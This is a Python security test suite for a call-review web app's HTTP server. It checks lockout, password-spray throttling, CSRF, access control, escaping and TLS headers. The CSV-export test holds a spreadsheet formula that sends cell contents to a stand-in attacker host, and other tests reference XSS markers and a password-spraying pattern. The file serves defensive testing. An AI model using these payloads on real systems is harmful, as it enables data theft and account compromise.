"""Attacks on `qa serve` over HTTP: a real server process over a store whose calls carry
hostile text, requests made like a browser's (or like a script's)."""

from __future__ import annotations

import csv
import http.client
import io
import re
import shutil
import ssl
import subprocess
import threading
import urllib.parse

from markupsafe import escape

from qa.web.workspace import Workspace
from tests.security.conftest import HOSTILE, ODD_ID, PASSWORD, Client, logged_in
from tests.web.conftest import start_server, stop_server


def test_concurrent_wrong_logins_try_no_more_passwords_than_the_limit(hostile_db, tmp_path):
    # A script that sends its guesses at once must not get more than `max_failures` (5) of
    # them checked: before the fix all 30 were verified ("invalid"), none refused as locked.
    shutil.copytree(hostile_db[0].parent, tmp_path, dirs_exist_ok=True)
    workspace = Workspace(tmp_path / "calls.db")
    workspace.add_user("victim", "reviewer", PASSWORD)
    workspace.close()
    # (All from one address: its own throttle is set above the 31 tries here.)
    proc, url = start_server(tmp_path / "calls.db", "--address-failures", "100")
    try:
        tries = []
        for _ in range(30):
            client = Client(url)
            page = client.get("/login")[2]
            tries.append((client, re.search(r'name="csrf" value="([^"]+)"', page).group(1)))
        answers: list[str] = []

        def guess(n: int) -> None:
            client, nonce = tries[n]
            status, _, page = client.request("POST", "/login", {
                "csrf": nonce, "username": "victim", "password": f"wrong-guess-{n}"})
            assert status == 401
            answers.append("locked" if "locked" in page else "checked")

        threads = [threading.Thread(target=guess, args=(n,)) for n in range(30)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert answers.count("checked") == 5 and answers.count("locked") == 25
        # And the right password now waits for the lock like any other.
        status, _, page = Client(url).login("victim")
        assert status == 401 and "locked" in page
    finally:
        stop_server(proc)


def test_right_password_after_some_failures_still_logs_in_and_clears_them(hostile) -> None:
    workspace = Workspace(hostile.db)
    workspace.add_user("forgetful", "reviewer", PASSWORD)
    workspace.close()
    for _ in range(4):
        assert Client(hostile.url).login("forgetful", "not-the-password")[0] == 401
    assert Client(hostile.url).login("forgetful")[0] == 303
    for _ in range(4):  # the count started again
        assert Client(hostile.url).login("forgetful", "not-the-password")[0] == 401
    assert Client(hostile.url).login("forgetful")[0] == 303


def test_ids_too_large_for_the_database_are_not_found_not_a_server_error(hostile) -> None:
    # SQLite raised OverflowError on a number past 64 bits: a 500 with a traceback logged.
    huge = "9" * 30
    rita, sam = logged_in(hostile, "rita"), logged_in(hostile, "sam")
    assert rita.get(f"/calibration/{huge}")[0] == 404
    assert rita.get(f"/calibration/{huge}/calls/call-0")[0] == 404
    assert sam.get(f"/calibration/{huge}/report")[0] == 404
    assert rita.post(f"/calibration/{huge}/calls/call-0", {})[0] == 404
    assert rita.post(f"/disputes/{huge}/decide", {"state": "rejected"})[0] == 404
    assert rita.post(f"/disputes/{2**63 - 1}/decide", {"state": "rejected"})[0] == 400


def test_csv_export_never_hands_a_spreadsheet_a_formula(hostile) -> None:
    # An agent id comes from a SIP header: `=HYPERLINK(...)` would run in the reviewer's
    # spreadsheet. Every text cell starting with = + - @ is quoted with a leading apostrophe.
    status, headers, text = logged_in(hostile, "rita").get("/calls.csv")
    assert status == 200 and headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(text)))
    agents = {r["agent_id"] for r in rows}
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in agents
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value


def test_hostile_call_text_is_escaped_on_every_page(hostile) -> None:
    escaped = str(escape(HOSTILE))
    for user, path in (("ann", "/calls/call-0"), ("rita", "/calls?q=department"),
                       ("rita", "/calls"), ("ann", "/disputes")):
        status, headers, page = logged_in(hostile, user).get(path)
        assert status == 200
        assert HOSTILE not in page and "<script>alert" not in page
        assert "onerror=alert(2)>" not in page
        if path != "/disputes":
            assert escaped in page or path == "/calls"
        csp = headers["Content-Security-Policy"]
        assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
        assert headers["X-Content-Type-Options"] == "nosniff"


def test_a_dispute_comment_is_escaped_for_the_reviewer(hostile) -> None:
    ann = logged_in(hostile, "ann")
    status, _, _ = ann.post("/calls/call-0/disputes", {"rule": "no_shirking",
                                                        "comment": "unfair " + HOSTILE})
    assert status == 303
    page = logged_in(hostile, "rita").get("/disputes")[2]
    assert "unfair " + str(escape(HOSTILE)) in page and HOSTILE not in page


def test_a_call_id_with_address_characters_is_linked_and_redirected_quoted(hostile) -> None:
    # `qa score` names a call after its file; `?` and `#` in it cut the link short (it
    # opened `/calls/file-refund` with a query), so the call could not be opened from the list.
    rita = logged_in(hostile, "rita")
    quoted = urllib.parse.quote(ODD_ID, safe="")
    page = rita.get("/calls")[2]
    assert f'href="/calls/{quoted}"' in page
    status, _, page = rita.get(f"/calls/{quoted}")
    assert status == 200 and str(escape(ODD_ID)) in page
    assert f'action="/calls/{quoted}/override"' in page
    status, headers, _ = rita.post(f"/calls/{quoted}/override", {
        "rule": "no_shirking", "points": "6", "reason": "heard it again"})
    path, _, fragment = headers["Location"].partition("#")
    assert status == 303 and fragment == "scorecard"
    assert urllib.parse.unquote(path) == f"/calls/{ODD_ID}"


def test_search_syntax_never_reaches_fts5(hostile) -> None:
    rita = logged_in(hostile, "rita")
    for query in ('"', "*", "NEAR(", "a OR b", "(", "col:x", "^x", "中\"文", "-x", "'",
                  "AND", "NOT", '"unterminated', "\x00", "x" * 5000):
        status, _, page = rita.get("/calls?q=" + urllib.parse.quote(query))
        assert status == 200, query
        assert str(escape(query))[:100] in page or query == "\x00"


def test_agents_reach_neither_other_calls_nor_reviewer_routes(hostile) -> None:
    ann = logged_in(hostile, "ann")
    for path in ("/calls/call-1", "/api/calls/call-1", "/calls/call-1/audio", "/calls.csv",
                 "/calibration", "/live", "/api/live", "/audit", "/users"):
        assert ann.get(path)[0] == 403, path
    for path, form in (("/calls/call-1/disputes", {"rule": "no_shirking", "comment": "x"}),
                       ("/calls/call-0/override", {"rule": "no_shirking", "points": "10",
                                                   "reason": "x"}),
                       ("/calls/call-0/label", {"segment": "1", "rule": "no_shirking",
                                                "verdict": "yes", "reason": "x"}),
                       ("/disputes/1/decide", {"state": "accepted"}),
                       ("/calibration", {"name": "x", "calls": "call-1"})):
        assert ann.post(path, form)[0] == 403, path
    page = ann.get("/calls?agent=agent-b")[2]
    assert 'data-call="call-1"' not in page and 'data-call="call-0"' in page


def test_every_state_change_needs_the_session_csrf_token(hostile) -> None:
    rita, sam = logged_in(hostile, "rita"), logged_in(hostile, "sam")
    for path, form in (("/calls/call-0/override", {"rule": "no_shirking", "points": "1",
                                                   "reason": "csrf"}),
                       ("/calls/call-0/label", {"segment": "1", "rule": "no_shirking",
                                                "verdict": "yes", "reason": "csrf"}),
                       ("/calibration", {"name": "x", "calls": "call-0"}),
                       ("/logout", {})):
        assert rita.post(path, form, csrf=False)[0] == 403, path
        # Another user's token does not do either.
        assert rita.request("POST", path, {"csrf": sam.csrf, **form})[0] == 403, path
    assert rita.get("/calls")[0] == 200  # still logged in


def test_locking_tells_nobody_which_names_exist(hostile) -> None:
    # Six wrong passwords for a real name end in "locked"; for an invented name the answer
    # stayed "invalid", so the sixth try told an attacker whether the name had an account.
    workspace = Workspace(hostile.db)
    workspace.add_user("real-name", "reviewer", PASSWORD)
    workspace.close()
    answers = {}
    for name in ("real-name", "invented-name"):
        pages = [Client(hostile.url).login(name, "wrong-password-x")[2] for _ in range(6)]
        answers[name] = ["locked" if "locked" in p else "invalid" for p in pages]
    assert answers["real-name"] == answers["invented-name"] == ["invalid"] * 5 + ["locked"]


def test_malformed_range_and_form_bodies_are_client_errors(hostile) -> None:
    # Each was a 500 with a traceback in the log: a Range header aiohttp cannot parse, and a
    # multipart form without its boundary (on the login form too).
    ann = logged_in(hostile, "ann")
    status, headers, _ = ann.request("GET", "/calls/call-0/audio", headers={"Range": "bytes=0-9"})
    assert status == 206 and headers["Content-Range"] == "bytes 0-9/16044"
    for bad in ("bytes=abc", "bytes=10-5", "items=0-1", "bytes=0-1,5-6"):
        status, headers, _ = ann.request("GET", "/calls/call-0/audio", headers={"Range": bad})
        assert status == 416, bad
        assert headers["X-Content-Type-Options"] == "nosniff"
    multipart = {"Content-Type": "multipart/form-data; boundary=zz"}
    for path in ("/calls/call-0/disputes", "/login"):
        status, headers, page = ann.request("POST", path, data={"csrf": ann.csrf},
                                            headers=multipart)
        assert status == 400 and "unreadable form" in page, path
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    # A body past the 1 MiB limit is refused before it is read.
    status, _, _ = ann.request("POST", "/calls/call-0/disputes",
                               data={"csrf": ann.csrf, "comment": "x" * (2 << 20)})
    assert status == 413


def test_tls_adds_hsts_and_secure_cookies_and_every_answer_has_a_strict_csp(hostile, tmp_path):
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
                    "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
                    "-keyout", str(key), "-out", str(cert)], check=True, capture_output=True)
    proc, url = start_server(hostile.db, "--tls-cert", str(cert), "--tls-key", str(key))
    try:
        client = Client(url, ssl.create_default_context(cafile=str(cert)))
        status, headers, _ = client.get("/login")
        assert status == 200 and headers["Strict-Transport-Security"] == "max-age=31536000"
        assert "Secure" in headers["Set-Cookie"] and "HttpOnly" in headers["Set-Cookie"]
        status, headers, _ = client.login("rita")
        assert status == 303 and "Secure" in headers["Set-Cookie"]
        for path in ("/calls", "/calls/call-0", "/no-such-page", "/static/app.js"):
            headers = client.get(path)[1]
            assert headers["Strict-Transport-Security"] == "max-age=31536000", path
            csp = headers["Content-Security-Policy"]
            # No <base> may re-point the page's relative links and forms, no plugins.
            assert "base-uri 'none'" in csp and "object-src 'none'" in csp, path
    finally:
        stop_server(proc)
    # Plain HTTP (the loopback) promises nothing about HTTPS.
    assert "Strict-Transport-Security" not in Client(hostile.url).get("/login")[1]


def _login_from(url: str, source: str, username: str, password: str) -> tuple[int, dict]:
    """Logs in over a connection from the loopback address `source` (127.0.0.x)."""
    parts = urllib.parse.urlsplit(url)

    def request(method: str, path: str, body: str = "", headers: dict | None = None):
        conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=30,
                                          source_address=(source, 0))
        try:
            conn.request(method, path, body=body or None, headers=headers or {})
            reply = conn.getresponse()
            return reply.status, dict(reply.getheaders()), reply.read().decode()
        finally:
            conn.close()

    _, headers, page = request("GET", "/login")
    nonce = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
    form = urllib.parse.urlencode({"csrf": nonce, "username": username, "password": password})
    status, headers, _ = request("POST", "/login", form, {
        "Content-Type": "application/x-www-form-urlencoded", "Cookie": f"qa_login={nonce}"})
    return status, headers


def test_one_address_spraying_passwords_is_throttled_whatever_the_names(hostile_db, tmp_path):
    # One password tried once against many names never trips the per-account lockout; the
    # address is refused after `--address-failures` failures, without a check or an audit row.
    shutil.copytree(hostile_db[0].parent, tmp_path, dirs_exist_ok=True)
    proc, url = start_server(tmp_path / "calls.db", "--address-failures", "5")
    try:
        for name in ("ann", "bo", "rita", "sam", "ada"):
            assert _login_from(url, "127.0.0.2", name, "Summer2026!!")[0] == 401
        for _ in range(3):
            status, headers = _login_from(url, "127.0.0.2", "rita", PASSWORD)
            assert status == 429 and 0 < int(headers["Retry-After"]) <= 61
        # Another address is not held back, and the names sprayed are not locked.
        assert _login_from(url, "127.0.0.3", "rita", PASSWORD)[0] == 303
        workspace = Workspace(tmp_path / "calls.db")
        try:
            assert len(workspace.audit_log(action="login_failed")) == 5
            throttled = workspace.audit_log(action="login_throttled")
            assert [(e.username, e.address) for e in throttled] == [("", "127.0.0.2")]
        finally:
            workspace.close()
    finally:
        stop_server(proc)
